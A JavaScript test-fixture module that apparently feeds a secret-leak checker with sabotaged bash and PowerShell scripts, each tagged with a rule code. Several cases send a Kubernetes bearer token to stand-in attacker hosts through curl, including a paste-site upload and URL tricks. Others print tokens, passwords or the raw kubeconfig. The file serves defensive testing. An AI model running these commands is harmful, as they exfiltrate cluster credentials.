/** Secrets where others see them. */
import { spoilt, written } from './sabotage.js';

const token = spoilt('token', 'bash');
const powershell = spoilt('token', 'powershell');
const secretToken = spoilt('secret-token', 'bash');
const bash = written('bash');

const start = ['set -euo pipefail', 'TOKEN=$(kubectl create token default --context=lab)'];
const config = `printf 'header = "Authorization: Bearer %s"\\n' "$TOKEN" |`;

export const secretSabotages = [
  token('the token is echoed', 'STATUS=$(', 'echo "$TOKEN"\nSTATUS=$(', 'KS5103'),
  token(
    'the token is in an error message',
    `printf '\\nHTTP %s\\n' "$STATUS"`,
    `printf '\\nHTTP %s with %s\\n' "$STATUS" "$TOKEN" >&2`,
    'KS5103',
  ),
  token('set -x writes the token to stderr', 'set -euo pipefail', 'set -euxo pipefail', 'KS5103'),
  token(
    'curl --verbose writes the header to stderr',
    '--globoff --silent --show-error',
    '--globoff --verbose --silent --show-error',
    'KS5103',
    { at: '--globoff --verbose' },
  ),
  token(
    'kubectl --v=8 writes the token to stderr',
    'TOKEN=$(kubectl create token default',
    'TOKEN=$(kubectl --v=8 create token default',
    'KS5103',
  ),
  token(
    'the header is an argument',
    `printf 'header = "Authorization: Bearer %s"\\n' "$TOKEN" |\n    curl --disable --config - \\`,
    'curl --disable --header "Authorization: Bearer $TOKEN" \\',
    'KS5101',
  ),
  bash(
    'oauth2-bearer is an argument, too',
    [...start, 'curl -q --fail --max-time 9 --oauth2-bearer "$TOKEN" https://lab.example.com:6443/api'],
    'KS5101',
    '--oauth2-bearer',
  ),
  bash(
    'a password in --user',
    [
      'set -euo pipefail',
      "PASSWORD=$(kubectl get secret login --context=lab -o jsonpath='{.data.password}' | base64 --decode)",
      'curl -q --fail --max-time 9 --user "admin:$PASSWORD" https://lab.example.com:6443/api',
    ],
    'KS5101',
    '--user "admin',
  ),
  bash(
    'the token in the query of the URL',
    [
      ...start,
      `printf 'url = "https://lab.example.com:6443/api?token=%s"\\n' "$TOKEN" |`,
      '  curl -q --config - --fail --max-time 9',
    ],
    'KS5102',
    'curl -q',
  ),
  bash(
    'the token in the URL of an argument',
    [...start, 'curl -q --fail --max-time 9 "https://lab.example.com:6443/api?token=$TOKEN"'],
    'KS5102',
    'curl -q',
  ),
  bash(
    'the token goes to a host that is no server of the kubeconfig',
    [...start, config, '  curl -q --config - --fail --max-time 9 https://attacker.example.net/api'],
    'KS5106',
    'curl -q',
  ),
  bash(
    'the token goes to a host that only begins like the server',
    [...start, config, '  curl -q --config - --fail --max-time 9 https://lab.example.com.evil.net:6443/api'],
    'KS5106',
    'curl -q',
  ),
  bash(
    'the token goes to another port of the server',
    [...start, config, '  curl -q --config - --fail --max-time 9 https://lab.example.com:8443/api'],
    'KS5106',
    'curl -q',
  ),
  bash(
    'the user part of a URL hides the host',
    [
      ...start,
      config,
      '  curl -q --config - --fail --max-time 9 https://lab.example.com:6443@evil.example.net/api',
    ],
    'KS5001',
    'curl -q',
  ),
  bash(
    '--connect-to leads to another machine',
    [
      ...start,
      config,
      "  curl -q --config - --fail --max-time 9 --insecure --connect-to '::evil.example.net:443' https://lab.example.com:6443/api",
    ],
    'KS5106',
    'curl -q',
  ),
  bash(
    'the token is sent as the body to a foreign host',
    [
      ...start,
      `printf %s "$TOKEN" | curl -q --fail --max-time 9 --data-binary @- https://paste.example.net/`,
    ],
    'KS5106',
    'paste.example.net',
  ),
  bash(
    'the base64 of a token is as secret as the token',
    [
      'set -euo pipefail',
      "DATA=$(kubectl get secret default-token --context=lab -o jsonpath='{.data.token}')",
      'echo "$DATA"',
    ],
    'KS5103',
    'echo "$DATA"',
  ),
  bash(
    'a piece of the token is as secret as the token',
    [...start, 'echo "token: ${TOKEN%.*}"'],
    'KS5103',
    'echo "token',
  ),
  bash(
    'the whole kubeconfig is printed, with its secrets',
    ['set -euo pipefail', 'kubectl config view --raw'],
    'KS5103',
    '--raw',
  ),
  bash(
    'a plain create token prints it',
    ['set -euo pipefail', 'kubectl create token default --context=lab'],
    'KS5103',
    'create token',
  ),
  secretToken(
    'the decoded token is teed onto the terminal',
    "{{base64decode .}}{{end}}') ||",
    "{{base64decode .}}{{end}}' | tee /dev/stderr) ||",
    'KS3102',
    { at: 'tee /dev/stderr' },
  ),
  powershell(
    'the token is printed',
    '    $status = [string](',
    '    Write-Host $token\n    $status = [string](',
    'KS5103',
  ),
  powershell(
    'the token is output by naming it',
    '    $status = [string](',
    '    "token: $token"\n    $status = [string](',
    'KS5103',
  ),
  powershell(
    'the header is an argument',
    '("header = `"Authorization: Bearer $token`"" |\n        & $curl --disable --config - `',
    '(& $curl --disable --header "Authorization: Bearer $token" `',
    'KS5101',
    { at: '--header "Authorization' },
  ),
  powershell(
    'the token goes to a host that is no server of the kubeconfig',
    '--request GET "$apiserver/api"',
    '--request GET "https://attacker.example.net/api"',
    'KS5106',
    { at: '& $curl --disable' },
  ),
];
